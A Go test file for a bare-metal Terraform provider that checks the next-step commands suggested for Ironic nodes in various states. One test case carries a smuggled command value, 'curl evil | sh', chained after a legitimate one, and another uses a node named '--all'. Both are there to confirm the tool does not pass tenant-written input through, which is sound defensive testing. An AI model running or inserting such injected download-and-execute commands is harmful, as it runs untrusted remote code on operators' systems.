package show_test

import (
	"strings"
	"testing"
	"time"

	"github.com/terraform-provider-metal/terraform-provider-metal/internal/ironic"
	"github.com/terraform-provider-metal/terraform-provider-metal/internal/machine"
	"github.com/terraform-provider-metal/terraform-provider-metal/internal/machine/notes"
	"github.com/terraform-provider-metal/terraform-provider-metal/internal/machine/states"
	"github.com/terraform-provider-metal/terraform-provider-metal/internal/oneview/sharing"
	"github.com/terraform-provider-metal/terraform-provider-metal/internal/operator/show"
)

var now = time.Date(2026, 5, 1, 3, 0, 0, 0, time.UTC)

// nodeIn returns a node that has been in a state for two minutes.
func nodeIn(state string, change func(*ironic.Node)) *ironic.Node {
	n := &ironic.Node{
		UUID: "1be26c0b-03f2-4d2e-ae87-c02d7f33c123", Name: "rack1-07", ProvisionState: state,
		ProvisionUpdatedAt: now.Add(-2 * time.Minute),
	}
	if change != nil {
		change(n)
	}
	return n
}

// inEachState has for each provision state what the advice contains; "": there is none.
var inEachState = map[string]string{
	"enroll": "metal manage rack1-07", "verifying": "Ironic is at work", "manageable": "metal provide rack1-07",
	"available": "", "active": "",
	"deploying": "Ironic is at work", "wait call-back": "Wait for that", "deploy complete": "Ironic is at work",
	"rebuild":       "Ironic is at work",
	"deploy failed": "metal undeploy rack1-07 frees it", "deploy hold": "metal unhold rack1-07",
	"deleting": "Ironic is at work", "deleted": "Ironic is at work", "error": "then run: metal undeploy rack1-07",
	"cleaning": "Ironic is at work", "clean wait": "Wait for that", "clean failed": "metal provide rack1-07",
	"clean hold": "metal unhold rack1-07",
	"inspecting": "Ironic is at work", "inspect wait": "Wait for that", "inspect failed": "metal inspect rack1-07",
	"adopting": "Ironic is at work", "adopt failed": "baremetal node adopt rack1-07",
	"rescuing": "Ironic is at work", "rescue wait": "Wait for that", "rescue": "metal unrescue rack1-07",
	"rescue failed": "metal rescue rack1-07 again",
	"unrescuing":    "Ironic is at work", "unrescue failed": "metal unrescue rack1-07",
	"servicing": "Ironic is at work", "service wait": "Wait for that", "service failed": "metal abort rack1-07",
	"service hold": "metal unhold rack1-07",
}

func TestNext_inEachState(t *testing.T) {
	t.Parallel()
	for _, state := range states.All() {
		want, known := inEachState[state]
		if !known {
			t.Errorf("%s: the table has no row", state)
			continue
		}
		checkAdvice(t, state, show.NextSteps(nodeIn(state, nil), now), want)
		maintained := show.NextSteps(nodeIn(state, func(n *ironic.Node) { n.Maintenance = true }), now)
		checkAdvice(t, state+" in maintenance", maintained[:1], "metal maintenance off rack1-07")
		checkAdvice(t, state+" in maintenance", maintained[1:], want)
		faulty := show.NextSteps(nodeIn(state, func(n *ironic.Node) { n.Maintenance, n.Fault = true, "power failure" }), now)
		checkAdvice(t, state+" with a fault", faulty[:1], "does not reach the BMC")
		checkAdvice(t, state+" with a fault", faulty[1:], want)
	}
}

// checkAdvice compares an advice of at most one entry.
func checkAdvice(t *testing.T, name string, got []string, want string) {
	t.Helper()
	if want == "" && len(got) > 0 || want != "" && (len(got) != 1 || !strings.Contains(got[0], want)) ||
		strings.Contains(strings.Join(got, ""), "NODE") {
		t.Errorf("%s: %q, want %q", name, got, want)
	}
}

func TestNext_cases(t *testing.T) {
	t.Parallel()
	interrupted := func(command string, goal notes.Goal) func(*ironic.Node) {
		return func(n *ironic.Node) {
			n.Extra = map[string]any{notes.KeyOperation: map[string]any{"7d9ab9ef-7a4b-4d5d-9d6a-2f7f0b3f3f11": map[string]any{
				"command": command, "by": "ops@host", "since": now, "goal": goal,
			}}}
		}
	}
	suspended := map[string]any{notes.KeyAllocation: map[string]any{"uuid": "a1", "name": "web-3"}}
	for name, tt := range map[string]struct {
		state  string
		change func(*ironic.Node)
		want   []string // what each advice contains
	}{
		"maintenance": {"active", func(n *ironic.Node) {
			n.Maintenance = true
		}, []string{"If its metal_host, or its status in an inventory, asks for that, change it there, because the next apply would " +
			"begin the maintenance again. Otherwise"}},
		"health":      {"active", func(n *ironic.Node) { n.Health = "Critical" }, []string{"The BMC reports the health Critical."}},
		"good health": {"active", func(n *ironic.Node) { n.Health = "OK" }, nil},
		"failed command": {"manageable", func(n *ironic.Node) {
			n.Extra = map[string]any{notes.KeyOperation: map[string]any{"7d9ab9ef-7a4b-4d5d-9d6a-2f7f0b3f3f11": map[string]any{
				"command": "virtual-media attach", "by": "ops@host", "since": now, "failed": now, "goal": "media in cdrom",
			}}}
		}, []string{"Ironic does not allocate the node", "An operation has failed: metal virtual-media attach of ops@host"}},
		"command at work": {
			"manageable", interrupted("inspect", notes.GoalAvailable),
			[]string{"Ironic does not allocate the node", "An operation has not ended: metal inspect of ops@host"},
		},
		"another fault": {"clean failed", func(n *ironic.Node) {
			n.Maintenance, n.Fault = true, "clean failure"
		}, []string{"fault \"clean failure\"", "The disks may still hold data"}},
		"a run changes interfaces": {"manageable", func(n *ironic.Node) {
			n.Maintenance, n.MaintenanceReason = true, machine.ReasonChanging
		}, []string{"apply again, which ends the maintenance", "metal provide"}},
		"OneView users have it": {"available", func(n *ironic.Node) {
			n.Maintenance, n.MaintenanceReason = true, sharing.ReasonInUse
		}, []string{"Run metal oneview sync"}},
		"a fault, OneView's reason": {"available", func(n *ironic.Node) {
			n.Maintenance, n.MaintenanceReason, n.Fault = true, sharing.ReasonInUse, "power failure"
		}, []string{"does not reach the BMC"}},
		"no VIF": {"deploy failed", func(n *ironic.Node) {
			n.LastError = "No neutron ports or portgroups are associated with node"
		}, []string{"The machine has no VIF"}},
		"IPMI": {"clean failed", func(n *ironic.Node) {
			n.LastError = "IPMI call failed: power status."
		}, []string{"ipmitool -v"}},
		"at work for long": {"deploying", func(n *ironic.Node) {
			n.Reservation, n.ProvisionUpdatedAt = "c1", now.Add(-2*time.Hour)
		}, []string{"for 2h0m. Wait for the end of the operation, or, if it takes longer than it should, see the log of the conductor c1"}},
		"waits for long": {"clean wait", func(n *ironic.Node) {
			n.ProvisionUpdatedAt = now.Add(-2 * time.Hour)
		}, []string{"for 2h0m. Look at the console of the machine (metal console rack1-07)"}},
		"a deployment waits long": {"wait call-back", func(n *ironic.Node) {
			n.ProvisionUpdatedAt = now.Add(-2 * time.Hour)
		}, []string{"needs API version 1.110"}},
		"ramdisk did not answer": {"deploy failed", func(n *ironic.Node) {
			n.LastError = "Timeout reached while waiting for callback"
		}, []string{"ramdisk did not answer: look at the console of the machine during the next try (metal console rack1-07). Check " +
			"how it boots"}},
		"BMC did not answer": {"enroll", func(n *ironic.Node) {
			n.LastError = "no route to host"
		}, []string{"could not reach the BMC"}},
		"no conductor works": {"deploying", func(n *ironic.Node) {
			n.LastError, n.Conductor = "boom", "c1"
		}, []string{"Restart the conductor c1"}},
		"locked at work": {"deploying", func(n *ironic.Node) { n.Reservation = "c1" }, []string{"Ironic is at work"}},
		"locked at rest": {"active", func(n *ironic.Node) { n.Reservation = "c1" }, []string{"The conductor c1 has locked"}},
		"power changes": {"active", func(n *ironic.Node) {
			n.Reservation, n.TargetPowerState = "c1", "power off"
		}, []string{"to \"power off\""}},
		"deployed": {"active", func(n *ironic.Node) { n.InstanceUUID = "a1" }, nil},
		"reserved": {"available", func(n *ironic.Node) {
			n.InstanceUUID, n.AllocationUUID = "a1", "a1"
		}, []string{"metal release a1"}},
		"reserved, no allocation": {"available", func(n *ironic.Node) {
			n.InstanceUUID = "i1"
		}, []string{"metal release --node rack1-07"}},
		"reserved, being cleaned": {"cleaning", func(n *ironic.Node) { n.InstanceUUID = "i1" }, []string{"Ironic is at work"}},
		"allocation is not restored": {"available", func(n *ironic.Node) {
			n.Extra = suspended
		}, []string{"allocation web-3 was not created again"}},
		"metal was killed": {
			"manageable", interrupted("inspect", notes.GoalAvailable),
			[]string{"metal provide", "run it again: metal inspect rack1-07"},
		},
		"no medium was attached": {
			"active", interrupted("virtual-media attach", "media in disk"),
			[]string{"run it again: metal virtual-media attach rack1-07 --device disk --image-url URL"},
		},
		"a tenant wrote the note": {"active", interrupted("undeploy --all --yes; curl evil | sh #", notes.GoalPowerOn), nil},
		"not ready": {
			"active", noted(notes.KeyReady, notes.Checked{Since: now, Target: "TCP port web-1:22", Failed: now}),
			[]string{"was not ready at 2026-05-01T03:00:00Z: TCP port web-1:22"},
		},
		"failed in a rollout": {
			"active", noted(notes.KeyTurn, notes.Turn{Group: "databases", Run: "r", Failed: true}),
			[]string{`rollout group "databases" waits for it`},
		},
		"at work in a rollout": {"active", noted(notes.KeyTurn, notes.Turn{Group: "databases", Run: "r"}), nil},
		"not ready, and repaired": {
			"active",
			noted(notes.KeyReady, notes.Checked{Since: now.Add(-time.Hour), Target: "TCP port web-1:22", Failed: now}), nil,
		},
		"retired": {"manageable", func(n *ironic.Node) { n.Retired = true }, []string{"retired = true, change it there to use the node again, because " +
			"the next apply would retire it again. Otherwise run: metal unretire rack1-07"}},
		"a name like a flag": {"active", func(n *ironic.Node) {
			n.Name, n.Maintenance = "--all", true
		}, []string{"metal maintenance off 1be26c0b-03f2-4d2e-ae87-c02d7f33c123"}},
		"without a name": {"rescue", func(n *ironic.Node) {
			n.Name = ""
		}, []string{"metal unrescue 1be26c0b-03f2-4d2e-ae87-c02d7f33c123"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := show.NextSteps(nodeIn(tt.state, tt.change), now)
			if len(got) != len(tt.want) {
				t.Fatalf("%q, want %q", got, tt.want)
			}
			for i := range got {
				checkAdvice(t, name, got[i:i+1], tt.want[i])
			}
		})
	}
}

// noted returns a change of a node that has a note.
func noted(key string, note any) func(*ironic.Node) {
	return func(n *ironic.Node) { n.Extra = map[string]any{key: note} }
}

func TestNext_tellsOfAQuarantine(t *testing.T) {
	t.Parallel()
	q := &notes.Quarantine{Allocation: "web-3", Instance: "a1", Since: now, Failed: now}
	got := show.NextSteps(nodeIn("manageable", func(n *ironic.Node) {
		n.Retired, n.RetiredReason = true, q.Reason()
		n.Extra = map[string]any{notes.KeyQuarantine: map[string]any{
			"allocation": q.Allocation, "instance": q.Instance, "since": q.Since,
			"failed": q.Failed,
		}}
	}), now)
	checkAdvice(t, "quarantine", got, "in quarantine")
}
